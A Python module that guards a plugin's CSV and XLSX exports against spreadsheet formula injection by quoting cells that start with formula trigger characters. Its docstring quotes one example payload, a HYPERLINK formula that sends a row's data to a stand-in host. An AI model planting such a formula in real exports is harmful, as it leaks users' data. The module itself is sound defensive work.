"""Keeping spreadsheet formulas out of every export a plugin writes (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets run a cell as a formula when its text starts with `=`, `+`,
`-`, `@`, a tab or a carriage return, so a resident named `=HYPERLINK("http://x/?d="&A2,"Klik")`
would become a link that sends the row away from the admin's machine. Every exported cell that
starts so gets a single quote in front, which the programs show as text. The rule is applied to
every such value, numbers included: one rule is easier to trust than a judgement per column (a
plugin whose sheet holds negative numbers writes them as numeric cells, which no program runs).

Text that already starts with a quote gets one more, so the rule can be undone exactly:
`unquote` (for an importer's every text cell) removes one quote only where `quote` put one, and
an export comes back through an import with the values it had.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from typing import Any

from litestar import Response
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
QUOTE = "'"
TRIGGERS = frozenset("=+-@\t\r")
"""First characters that make a spreadsheet program evaluate a cell (OWASP's list)."""
_QUOTED = TRIGGERS | {QUOTE}


def quote(value: str) -> str:
    """`value` as it may stand in a spreadsheet cell: never read as a formula."""
    return QUOTE + value if value[:1] in _QUOTED and value else value


def unquote(value: str) -> str:
    """The value `quote` was given: one leading quote removed, where `quote` would add it."""
    if value[:1] == QUOTE and value[1:2] in _QUOTED and len(value) > 1:
        return value[1:]
    return value


def text_cells(sheet: WriteOnlyWorksheet, values: Iterable[str]) -> list[WriteOnlyCell]:
    """An XLSX row of text cells (values already `quote`d): openpyxl stores text starting with `=`
    as a formula unless told otherwise."""
    cells = []
    for value in values:
        cell = WriteOnlyCell(sheet, value)
        cell.data_type = "s"
        cells.append(cell)
    return cells


def csv_download(text: str, filename: str) -> Response[str]:
    """A CSV file the browser saves as `filename`. Its media type is plain `text/csv`: Litestar
    appends `; charset=utf-8` to every text type itself, so naming it twice sent it twice."""
    return Response(
        text,
        media_type="text/csv",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )


def table_workbook(title: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """An XLSX file of one sheet: the header, then the rows. Text is `quote`d and stored as
    text, numbers stay numbers (a sum works in the sheet), None is an empty cell."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    sheet.append(text_cells(sheet, [quote(name) for name in header]))
    for row in rows:
        sheet.append([_cell(sheet, value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _cell(sheet: WriteOnlyWorksheet, value: Any) -> Any:
    if isinstance(value, str):
        return text_cells(sheet, [quote(value)])[0]
    return value


def xlsx_download(content: bytes, filename: str) -> Response[bytes]:
    """An XLSX file the browser saves as `filename`."""
    return Response(
        content,
        media_type=XLSX_TYPE,
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
